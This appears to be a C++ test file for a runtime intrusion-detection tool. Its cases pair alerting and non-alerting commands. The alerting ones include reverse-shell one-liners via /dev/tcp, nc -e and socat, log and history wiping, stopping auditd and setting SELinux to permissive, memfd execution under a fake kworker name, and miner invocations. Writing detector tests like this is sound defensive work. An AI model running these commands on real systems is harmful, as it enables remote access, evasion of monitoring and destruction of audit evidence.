// SPDX-License-Identifier: Apache-2.0
#include "tests/vm/library_cases.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <unistd.h>

#include <algorithm>
#include <iterator>

#include "fmt/format.h"
#include "tests/vm/child.h"

namespace kentry::vm {
namespace {

LibraryCase TerminalShell() {
  const Act shell = Run("/usr/bin/bash", {"bash"});
  return {.rule = "terminal-shell-in-container",
          .raises = {{Inside(OnTerminal(shell)), "/usr/bin/bash on pts"},
                     {Inside(OnTerminal(RunPresent("/bin/sh", {"sh"}))), "/bin/busybox on pts"}},
          .quiet = {Inside(shell), OnTerminal(shell),
                    Inside(OnTerminal(RunPresent("/bin/date", {"date"})))}};
}

LibraryCase PackageManager() {
  const Act apt = Run("/usr/bin/apt-get", {"apt-get", "install", "nmap"});
  const Act dnf = Script("/usr/bin/dnf", ":");
  const std::string message = fmt::format(" in{}, started by {}", InContainer(), kTest);
  return {.rule = "package-manager-in-container",
          .raises = {{Inside(apt), "apt-get install nmap" + message},
                     {Inside(dnf), "/bin/busybox sh /usr/bin/dnf" + message}},
          .quiet = {apt, dnf, Inside(Script("/usr/bin/dnf-like", ":"))}};
}

LibraryCase NetworkTool() {
  const Act nmap = Run("/usr/bin/nmap", {"nmap", "192.0.2.0/24"});
  return {.rule = "network-tool-in-container",
          .raises = {{Inside(nmap),
                      fmt::format("nmap 192.0.2.0/24 in{}, started by {}", InContainer(), kTest)}},
          .quiet = {nmap, Inside(RunPresent("/bin/ls", {"ls", "/fixtures"}))}};
}

int MountOverlay() {
  OwnMounts();
  const std::string options =
      fmt::format("lowerdir={0}/lower,upperdir={0}/upper,workdir={0}/work", kLibraryFolder);
  const std::string merged = fmt::format("{}/merged", kLibraryFolder);
  Must(mount("overlay", merged.c_str(), "overlay", 0, options.c_str()), "mount overlay");
  return -1;
}

LibraryCase NotInImage() {
  const std::string folder = kLibraryFolder;
  const std::string added = folder + "/merged/added";
  const Act act = After(RunPresent(added, {"added", "one"}), MountOverlay);
  return {.rule = "exec-of-file-not-in-image",
          .raises = {{Inside(act),
                      fmt::format("{} is not of the image of{}: added one", added, InContainer())}},
          .quiet = {act, Inside(After(RunPresent(folder + "/merged/old", {"old"}), MountOverlay))},
          .files = {folder + "/lower/", folder + "/upper/", folder + "/work/", folder + "/merged/"},
          .setup =
              [folder] {
                CopyFile(kHold, folder + "/lower/old", 0755);
                CopyFile(kHold, folder + "/upper/added", 0755);
              },
          .filesystem = "overlay"};
}

LibraryCase TracesRemoved() {
  const std::string message = fmt::format(" was run by {}", kTest);
  return {.rule = "traces-removed",
          .raises = {{RunPresent("/bin/rm", {"rm", "-f", "/root/.zsh_history"}),
                      "rm -f /root/.zsh_history" + message},
                     {Run("/usr/bin/shred", {"shred", "-u", "/var/log/auth.log"}),
                      "shred -u /var/log/auth.log" + message},
                     {Run("/usr/bin/journalctl", {"journalctl", "--vacuum-time=1s"}),
                      "journalctl --vacuum-time=1s" + message}},
          .quiet = {RunPresent("/bin/rm", {"rm", "-f", "/tmp/nothing"}),
                    Run("/usr/bin/journalctl", {"journalctl", "-f"}),
                    RunPresent("/bin/ls", {"ls", "-d", "/var/log/audit"})},
          .files = {"/root/.zsh_history", "/var/log/audit/"}};
}

LibraryCase SecurityService() {
  const std::string systemctl = "/usr/bin/systemctl";
  const std::string message = fmt::format(" was run by {}", kTest);
  return {.rule = "security-service-stopped",
          .raises = {{Run(systemctl, {"systemctl", "stop", "auditd.service"}),
                      "systemctl stop auditd.service" + message},
                     {Run("/usr/sbin/auditctl", {"auditctl", "-D"}), "auditctl -D" + message},
                     {Run("/usr/sbin/setenforce", {"setenforce", "0"}), "setenforce 0" + message}},
          .quiet = {Run(systemctl, {"systemctl", "stop", "nginx"}),
                    Run(systemctl, {"systemctl", "status", "auditd"}),
                    BelowDpkg("/usr/bin/systemctl stop auditd.service </dev/null")}};
}

// Writes hold into a new descriptor and returns it.
int HoldInMemory() {
  const int fd = static_cast<int>(Must(memfd_create("kentry-case", MFD_CLOEXEC), "memfd_create"));
  const std::string hold = ReadFile(kHold);
  Must(write(fd, hold.data(), hold.size()), "write");
  return fd;
}

int OpenHold() { return static_cast<int>(Must(open(kHold, O_PATH | O_CLOEXEC), "open")); }

constexpr char kGone[] = "/tmp/library/gone";

int OpenRemoved() {
  CopyFile(kHold, kGone, 0755);
  const int fd = static_cast<int>(Must(open(kGone, O_RDONLY | O_CLOEXEC), "open"));
  Must(unlink(kGone), "unlink");
  return fd;
}

LibraryCase Memfd() {
  const Act act = {.path = "", .args = {"[kworker/0:1]"}};
  return {.rule = "exec-from-memfd",
          .raises = {{After(act, HoldInMemory),
                      fmt::format("/memfd:kentry-case was executed from memory by {}: "
                                  "[kworker/0:1]",
                                  kTest)}},
          .quiet = {After(act, OpenHold)}};
}

LibraryCase DeletedFile() {
  const Act act = {.path = "", .args = {"gone"}};
  return {.rule = "exec-of-deleted-file",
          .raises = {{After(act, OpenRemoved),
                      fmt::format("{} was executed by {} after its file had been removed", kGone,
                                  kTest)}},
          .quiet = {After(act, OpenHold), After(act, HoldInMemory)}};
}

LibraryCase SharedMemory() {
  const std::string message = fmt::format("was executed by {}: ", kTest);
  const std::string script = "/dev/shm/library.sh";
  return {.rule = "exec-from-shared-memory",
          .raises = {{Run("/dev/shm/library", {"library", "one"}),
                      fmt::format("/dev/shm/library {}library one", message)},
                     {Script(script, ":"),
                      fmt::format("/bin/busybox {}/bin/busybox sh {}", message, script)}},
          .quiet = {Run("/tmp/library/shm/library", {"library"}),
                    Script("/tmp/library/shm/library.sh", ":"),
                    RunPresent("/bin/ls", {"ls", "/dev/shm/library"})}};
}

LibraryCase CryptoMiner() {
  const std::string pool = "stratum+tcp://pool.example:3333";
  return {.rule = "crypto-miner",
          .raises = {{Run("/tmp/library/xmrig", {"xmrig"}),
                      "/tmp/library/xmrig looks like a miner: xmrig"},
                     {Run("/tmp/library/kdevtmp", {"kdevtmp", "-o", pool}),
                      "/tmp/library/kdevtmp looks like a miner: kdevtmp -o " + pool}},
          .quiet = {Run("/tmp/library/xmrigger", {"xmrig"}),
                    Run("/usr/bin/grep", {"grep", pool, "miner.log"}),
                    Run("/tmp/library/kdevtmp", {"kdevtmp", "-o", "https://pool.example:3333"})}};
}

// Nobody listens where nc wants to go.
LibraryCase ReverseShell() {
  const std::string script = "bash -i >& /dev/tcp/192.0.2.1/443 0>&1";
  const std::string message = fmt::format("a shell is given to the network by {}: ", kTest);
  return {.rule = "reverse-shell-command-line",
          .raises = {{Run("/usr/bin/bash", {"bash", "-c", script}), message + "bash -c " + script},
                     {EndsWith(RunPresent("/bin/nc", {"nc", "127.0.0.1", "9", "-e", "/bin/sh"}), 1),
                      message + "nc 127.0.0.1 9 -e /bin/sh"},
                     {Run("/usr/bin/socat", {"socat", "TCP:192.0.2.1:443", "EXEC:/bin/sh,pty"}),
                      message + "socat TCP:192.0.2.1:443 EXEC:/bin/sh,pty"}},
          .quiet = {Run("/usr/bin/bash", {"bash", "-c", "ls /dev"}),
                    EndsWith(RunPresent("/bin/nc", {"nc", "127.0.0.1", "9"}), 1),
                    Run("/usr/bin/socat", {"socat", "TCP-LISTEN:80", "TCP:192.0.2.1:80"})}};
}

// A web server that runs one command.
Act Serves(const std::string& command) { return Shell("/usr/sbin/nginx", command + "; :"); }

LibraryCase WebShell() {
  return {.rule = "web-server-spawns-shell",
          .raises = {{Serves("/bin/sh -c ':'"), "/usr/sbin/nginx started a shell: /bin/sh -c :"}},
          .quiet = {Serves("/bin/date"), RunPresent("/bin/sh", {"/bin/sh", "-c", ":"})}};
}

LibraryCase ToolAfterWebShell() {
  const std::string id = "/usr/bin/id </dev/null";
  const std::string message = "/usr/bin/id below a web server's shell: /usr/bin/id";
  return {.rule = "tool-run-after-web-shell",
          .raises = {{Serves(fmt::format("/bin/sh -c '{}; :'", id)), message},
                     {Serves(fmt::format("/bin/sh -c '/bin/sh -c \"{}; :\"; :'", id)), message}},
          .quiet = {Run("/usr/bin/id", {"id"}), Serves(id), Run("/usr/bin/convert", {"convert"}),
                    Serves("/bin/sh -c '/usr/bin/convert </dev/null; :'")}};
}

LibraryCase SetuidProgram() {
  const std::string odd = "/tmp/library/helper";
  return {.rule = "unexpected-setuid-program",
          .raises = {{AsUser(Run(odd, {"helper", "-p"})),
                      odd + " runs as uid 0, started by uid 1000: helper -p"},
                     {AsUser(Run("/usr/bin/find", {"find", "."})),
                      "/usr/bin/find runs as uid 0, started by uid 1000: find ."}},
          .quiet = {AsUser(Run("/usr/bin/sudo", {"sudo", "id"})),
                    Run("/tmp/library/helper2", {"helper", "-p"})}};
}

}  // namespace

std::vector<LibraryCase> ExecCases() {
  return {TerminalShell(),   PackageManager(), NetworkTool(),       NotInImage(),   TracesRemoved(),
          SecurityService(), Memfd(),          DeletedFile(),       SharedMemory(), CryptoMiner(),
          ReverseShell(),    WebShell(),       ToolAfterWebShell(), SetuidProgram()};
}

std::vector<LibraryCase> LibraryCases() {
  std::vector<LibraryCase> all = ExecCases();
  std::vector<LibraryCase> files = FileCases();
  std::move(files.begin(), files.end(), std::back_inserter(all));
  return all;
}

}  // namespace kentry::vm
